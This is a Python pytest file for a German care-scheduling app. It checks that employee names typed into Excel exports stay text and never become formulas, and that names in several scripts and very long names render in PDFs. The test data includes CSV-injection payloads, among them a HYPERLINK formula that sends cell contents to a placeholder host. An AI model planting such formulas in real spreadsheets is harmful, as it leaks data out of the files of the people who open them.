"""Issue 14, points 1 and 8: names typed by people never become formulas, and print in every script.

OWASP "CSV Injection": text starting with = + - @ tab or CR is written as a text cell (with Excel's quote prefix),
in every workbook the program writes. Names in other scripts (Łukasz, Ayşe, Đặng, Ольга) are drawn with the
embedded DejaVu Sans, and a 10,000-character name does not stop a PDF export.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from core.cli import main
from core.persistence.modelle import Arbeitgeber, Assistenzkraft
from tests.core.dienstplan.conftest import Haushalt, plane_seed_januar

LINK = '=HYPERLINK("http://x.example/?d="&A1,"klick")'
FEINDLICH = {  # assistant → (Vorname, Nachname); the employer is "=1+1"
    "sabine": (LINK, "Berger"),
    "joerg": ("+1", "@SUMME(A1)"),
    "ulrike": ("-2+3", "\t=1"),
}
SCHRIFTEN = {"sabine": ("Łukasz", "Đặng"), "joerg": ("Ayşe", "Yılmaz"), "ulrike": ("Ольга", "Смирнова")}


def _benenne(h: Haushalt, namen: dict[str, tuple[str, str]], arbeitgeber: str) -> None:
    with h.db.arbeitseinheit() as sitzung:
        for wer, (vorname, nachname) in namen.items():
            sitzung.execute(
                update(Assistenzkraft)
                .where(Assistenzkraft.id == getattr(h, wer))
                .values(vorname=vorname, nachname=nachname)
            )
        sitzung.execute(update(Arbeitgeber).values(nachname=arbeitgeber, vorname=""))


def _export(h: Haushalt, art: str, ziel: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    code = main(["export", art, "--db", str(h.db.pfad), "--monat", "2015-01", "--ausgabe", str(ziel)])
    ausgabe = capsys.readouterr()
    assert code == 0, ausgabe.err
    return ziel


@pytest.fixture
def feindlich(haushalt: Haushalt) -> Haushalt:
    plane_seed_januar(haushalt)
    _benenne(haushalt, FEINDLICH, "=1+1")
    return haushalt


@pytest.mark.parametrize("art", ["dienstplan", "stundenzettel"])
def test_excel_export_enthaelt_keine_formel(
    feindlich: Haushalt, tmp_path: Path, capsys: pytest.CaptureFixture[str], art: str
) -> None:
    mappe = load_workbook(_export(feindlich, art, tmp_path / f"{art}.xlsx", capsys))
    zellen = [z for blatt in mappe.worksheets for reihe in blatt.iter_rows() for z in reihe]
    assert [z.coordinate for z in zellen if z.data_type == "f"] == []
    texte = [z for z in zellen if isinstance(z.value, str)]
    nutzlasten = [LINK, "=1+1", "+1", "-2+3"] + (["@SUMME(A1)"] if art == "stundenzettel" else [])
    for nutzlast in nutzlasten:  # the Dienstplan shows first names only
        treffer = [z for z in texte if nutzlast in z.value]
        assert treffer, nutzlast  # the name is there, as typed …
        # … as text; where it opens the cell, with the quote prefix so editing the cell keeps it text
        assert all(z.data_type == "s" for z in treffer)
        assert all(z.quotePrefix for z in treffer if z.value.startswith(nutzlast))
    zahlen = [z for z in zellen if isinstance(z.value, int | float)]
    assert art == "dienstplan" or zahlen  # hours stay numbers in the Stundenzettel


def test_libreoffice_zeigt_den_namen_nicht_den_link(
    feindlich: Haushalt, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The finding as seen in LibreOffice: the name cell shows the text, it is no live HYPERLINK."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice, "LibreOffice (soffice) fehlt: .ci/run installiert libreoffice-calc-nogui"
    quelle = _export(feindlich, "dienstplan", tmp_path / "plan.xlsx", capsys)
    nach_csv = "csv:Text - txt - csv (StarCalc):44,34,76"  # 76: LibreOffice's code for UTF-8
    profil = f"-env:UserInstallation=file://{tmp_path / 'lo'}"
    befehl = [soffice, profil, "--headless", "--convert-to", nach_csv, "--outdir", str(tmp_path), str(quelle)]
    subprocess.run(befehl, check=True, capture_output=True, timeout=180)
    with (tmp_path / "plan.csv").open(encoding="utf-8") as datei:
        werte = [w for zeile in csv.reader(datei) for w in zeile if w]
    assert any(w.startswith(LINK) for w in werte)  # Sabine's early shifts: the name as she "typed" it
    assert "klick" not in werte and "Arbeitgeberin: =1+1 · Feiertage: Baden-Württemberg" in werte


def test_pdf_zeigt_namen_in_allen_schriften(
    haushalt: Haushalt, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plane_seed_januar(haushalt)
    _benenne(haushalt, SCHRIFTEN, "Ольга Иванова")
    for art in ("dienstplan", "stundenzettel"):
        pdf = _export(haushalt, art, tmp_path / f"{art}.pdf", capsys)
        text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
        for name in ("Łukasz", "Ayşe", "Ольга"):
            assert name in text, (art, name)
        assert "Đặng" in text or art == "dienstplan"  # the Dienstplan prints first names only
        schriften = subprocess.run(["pdffonts", str(pdf)], capture_output=True, text=True, check=True).stdout
        eingebettet = [z for z in schriften.splitlines() if "DejaVuSans" in z]
        assert eingebettet and all(" yes " in z for z in eingebettet)  # embedded (and subset)


def test_zehntausend_zeichen_name_bricht_keinen_export_ab(
    haushalt: Haushalt, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    plane_seed_januar(haushalt)
    lang = {"sabine": ("Łukasz", "x" * 10_000), "joerg": ("Jörg", "Lang " * 2_000)}
    _benenne(haushalt, lang, "Ольга" + "y" * 10_000)
    for art, endung in (("dienstplan", "pdf"), ("stundenzettel", "pdf"), ("stundenzettel", "xlsx")):
        ziel = _export(haushalt, art, tmp_path / f"{art}.{endung}", capsys)
        assert ziel.stat().st_size > 1000
    text = subprocess.run(["pdftotext", str(tmp_path / "stundenzettel.pdf"), "-"], capture_output=True, text=True)
    assert "Łukasz xxxx" in text.stdout and "…" in text.stdout  # cut with an ellipsis, not dropped
    for datei in ("Personalbogen", "Auskunft"):
        code = main(
            ["personalbogen", "--db", str(haushalt.db.pfad), "--assistenzkraft", "Łukasz",
             "--ausgabe", str(tmp_path / f"{datei}.pdf")]
            if datei == "Personalbogen"
            else ["auskunft", "Łukasz", "--db", str(haushalt.db.pfad), "--ausgabe", str(tmp_path / "auskunft")]
        )  # fmt: skip
        fehler = capsys.readouterr()
        assert code == 0, fehler.err
        assert len(fehler.out) < 2_000  # the summary does not repeat the whole name
    assert {p.suffix for p in (tmp_path / "auskunft").iterdir()} == {".json", ".pdf"}
    assert date.today().isoformat() in " ".join(p.name for p in (tmp_path / "auskunft").iterdir())
